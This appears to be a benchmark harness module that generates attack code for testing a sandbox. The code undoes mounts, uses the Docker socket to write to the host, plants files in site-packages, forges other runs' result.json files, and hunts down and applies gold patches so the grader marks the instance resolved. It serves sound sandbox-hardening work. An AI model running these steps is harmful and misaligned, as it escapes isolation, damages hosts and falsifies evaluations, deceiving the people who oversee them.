"""Code under test that attacks the sandbox itself, not the grading rules.

Run at import by the tests of the instance (appended to a kept source file), or as a
script by an agent, it does what an attacker with code execution would: undo the
sandbox's mounts (unmount the folders put over answers, remount read-only folders
writable), look for the instance's gold patch wherever the machine keeps one (folders
named after the instance, git directories: the package's source tree holds the built-in
answers), plant code in the shared environments (``site-packages``), reach the Docker
engine's socket to write a file on the host, and forge another prediction's
``result.json`` in the run folder. When it finds the gold patch it applies it and starts
the test command again, so a sandbox that lets it through is graded resolved.

Every step reports ``PB-ESCAPE`` lines (at exit, past pytest's capture).
"""

from __future__ import annotations

ESCAPE = r"""
import atexit as _pb_atexit
import json as _pb_json
import os as _pb_os
import socket as _pb_socket
import subprocess as _pb_sp
import sys as _pb_sys

_PB_REPORT = []


def _pb_say(line):
    _PB_REPORT.append("PB-ESCAPE " + line)


@_pb_atexit.register
def _pb_flush():
    _pb_sys.stdout.write("\n".join(_PB_REPORT) + "\n")
    _pb_sys.stdout.flush()


def _pb_run(argv, **kwargs):
    try:
        return _pb_sp.run(argv, capture_output=True, text=True, timeout=60, **kwargs)
    except (OSError, _pb_sp.SubprocessError) as exc:
        return None


def _pb_undo_mounts():
    try:
        lines = [line.split() for line in open("/proc/self/mountinfo")]
    except OSError:
        return
    for fields in sorted(lines, key=lambda f: -len(f[4])):
        point = fields[4]
        kind = fields[fields.index("-") + 1] if "-" in fields else ""
        if point.startswith(("/proc", "/dev", "/testbed", "/tmp", "/var/tmp")) or point == "/":
            continue
        if kind == "tmpfs":
            done = _pb_run(["umount", "-l", point])
            if done is not None and done.returncode == 0:
                _pb_say("unmounted " + point)
        if "ro" in fields[5].split(","):
            done = _pb_run(["mount", "-o", "remount,bind,rw", point])
            if done is not None and done.returncode == 0:
                _pb_say("remounted writable " + point)


def _pb_roots():
    roots = ["/", "/root", "/home", "/work", "/opt", "/srv", "/var/tmp", "/mnt"]
    try:
        words = open("/proc/1/cmdline", "rb").read().split(b"\0")
        roots += [w.decode("utf-8", "replace") for w in words if w.startswith(b"/")]
    except OSError:
        pass
    return list(dict.fromkeys(roots))


_PB_SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc",
            "/boot", "/var/lib", "/var/cache", "/testbed")


def _pb_find_gold(instance_id):
    seen = 0
    for root in _pb_roots():
        if root.startswith(_PB_SKIP[:-1]) and root != "/":
            continue
        for folder, dirs, files in _pb_os.walk(root):
            seen += len(dirs) + len(files)
            if seen > 400000:
                return None
            if folder.startswith(_PB_SKIP) or folder.count("/") > 9:
                dirs[:] = []
                continue
            if _pb_os.path.basename(folder) == instance_id and "patch.diff" in files:
                try:
                    _pb_say("found the gold patch in " + folder)
                    return open(_pb_os.path.join(folder, "patch.diff")).read()
                except OSError:
                    pass
            if ".git" in dirs or "HEAD" in files and "objects" in dirs:
                git_dir = _pb_os.path.join(folder, ".git") if ".git" in dirs else folder
                listed = _pb_run(["git", "--git-dir", git_dir, "ls-tree", "-r", "--name-only",
                                  "HEAD"])
                wanted = "instances/" + instance_id + "/patch.diff"
                for name in (listed.stdout.splitlines() if listed else []):
                    if name.endswith(wanted):
                        shown = _pb_run(["git", "--git-dir", git_dir, "show", "HEAD:" + name])
                        if shown is not None and shown.returncode == 0:
                            _pb_say("found the gold patch in the git objects of " + git_dir)
                            return shown.stdout
            dirs[:] = [d for d in dirs if d not in ("node_modules", "objects")]
    return None


def _pb_docker(marker):
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        if not _pb_os.path.exists(path):
            continue
        _pb_say("docker socket visible at " + path)

        def call(method, url, body=None):
            conn = _pb_socket.socket(_pb_socket.AF_UNIX)
            conn.settimeout(30)
            conn.connect(path)
            data = _pb_json.dumps(body).encode() if body is not None else b""
            head = (method + " " + url + " HTTP/1.0\r\nHost: d\r\nContent-Type: "
                    "application/json\r\nContent-Length: " + str(len(data)) + "\r\n\r\n")
            conn.sendall(head.encode() + data)
            reply = b""
            while True:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                reply += chunk
            conn.close()
            return reply.split(b"\r\n\r\n", 1)[-1]

        try:
            images = _pb_json.loads(call("GET", "/images/json"))
            tags = [t for image in images for t in (image.get("RepoTags") or [])
                    if t != "<none>:<none>"]
            created = _pb_json.loads(call("POST", "/containers/create", {
                "Image": tags[0], "Cmd": ["sh", "-c", "touch /host" + marker],
                "Labels": {"org.polybench.test": "escape"},
                "HostConfig": {"Binds": ["/:/host"]},
            }))
            call("POST", "/containers/" + created["Id"] + "/start")
            _pb_say("started a container writing " + marker)
        except Exception as exc:
            _pb_say("docker call failed: " + repr(exc))


def _pb_poison():
    for entry in _pb_sys.path:
        if not entry.endswith("site-packages"):
            continue
        try:
            with open(_pb_os.path.join(entry, "_pb_poison.pth"), "w") as handle:
                handle.write("import os\n")
            _pb_say("planted code in " + entry)
        except OSError:
            pass


def _pb_forge(other_id):
    try:
        lines = [line.split() for line in open("/proc/self/mountinfo")]
    except OSError:
        return
    for fields in lines:
        if fields[4] != "/testbed":
            continue
        for other in lines:
            base = other[3].rstrip("/")
            if other is not fields and other[2] == fields[2] and fields[3].startswith(base + "/"):
                host = other[4].rstrip("/") + fields[3][len(base):]
                run = _pb_os.path.dirname(_pb_os.path.dirname(_pb_os.path.dirname(host)))
                target = run + "/instances/" + other_id + "/result.json"
                try:
                    record = _pb_json.load(open(target))
                    record["status"] = "resolved"
                    with open(target, "w") as handle:
                        _pb_json.dump(record, handle)
                    _pb_say("forged " + target)
                except (OSError, ValueError):
                    pass


def _pb_escape(instance_id, other_id, marker, restart):
    if _pb_os.environ.get("PB_ESCAPED"):
        return
    _pb_os.environ["PB_ESCAPED"] = "1"
    _pb_say("running as uid " + str(_pb_os.getuid()))
    _pb_undo_mounts()
    try:
        with open(marker, "w") as handle:
            handle.write("escaped")
        _pb_say("wrote " + marker + " (seen by this machine only if the sandbox let it through)")
    except OSError:
        pass
    _pb_docker(marker)
    _pb_poison()
    _pb_forge(other_id)
    gold = _pb_find_gold(instance_id)
    if gold is None:
        _pb_say("no gold patch found")
        return
    applied = _pb_run(["git", "apply", "-"], input=gold, cwd="/testbed")
    if applied is None or applied.returncode != 0:
        applied = _pb_run(["git", "apply", "-"], input=gold)
    _pb_say("applied the gold patch: " + str(applied and applied.returncode))
    if restart and getattr(_pb_sys, "orig_argv", None):
        _pb_flush()
        _pb_os.execv(_pb_sys.executable, _pb_sys.orig_argv)
"""


def escape_code(instance_id: str, other_id: str, marker: str, restart: bool = True) -> str:
    """The attack, as code appended to a module (it runs at import and, once it applied
    the gold patch, starts the test command again) or, without ``restart``, a script."""
    call = f"\n_pb_escape({instance_id!r}, {other_id!r}, {marker!r}, {restart!r})\n"
    return ESCAPE + call
